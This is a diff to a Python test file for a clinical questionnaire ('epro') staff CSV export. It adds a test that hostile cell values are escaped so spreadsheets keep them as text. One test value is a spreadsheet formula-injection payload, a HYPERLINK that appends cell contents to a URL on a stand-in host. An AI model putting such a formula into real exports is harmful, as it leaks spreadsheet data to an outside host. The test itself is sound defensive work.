@@ -3,11 +3,12 @@
 from __future__ import annotations
 
 import uuid
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
-from epro.api.staff import csv_rows
+from epro.api.staff import csv_rows, spreadsheet_safe
 from epro.domain import fhir
 from epro.domain.definitions import shipped
 from epro.domain.responses import ResponseVersion, Scores
@@ -106,6 +107,22 @@ def test_csv_is_one_row_per_answer_and_score_of_every_version() -> None:
         (1, False, "score:wellbeing_score", 4, None),
         (2, True, "wellbeing", 6, "typo"),
     ]
+
+
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_kept_as_text() -> None:
+    hostile = row(
+        2,
+        **{"symptoms-other": '=HYPERLINK("http://x.test/?"&A1,"open")', "wellbeing": -3},
+    )
+    hostile = replace(hostile, reason="@SUM(A1:A9)", author="+staff")
+    rows = {r["item"]: r for r in csv_rows([hostile])}
+    assert rows["symptoms-other"]["value"] == '\'=HYPERLINK("http://x.test/?"&A1,"open")'
+    assert rows["wellbeing"]["value"] == -3  # a number stays a number
+    assert rows["wellbeing"]["reason"] == "'@SUM(A1:A9)"
+    assert rows["wellbeing"]["author"] == "'+staff"
+    assert spreadsheet_safe("-12.5") == "-12.5"
+    assert spreadsheet_safe("\tcmd") == "'\tcmd"
+    assert spreadsheet_safe("plain text") == "plain text"
 
 
 def test_timeliness_flags_late_and_out_of_window_but_accepts_them() -> None:
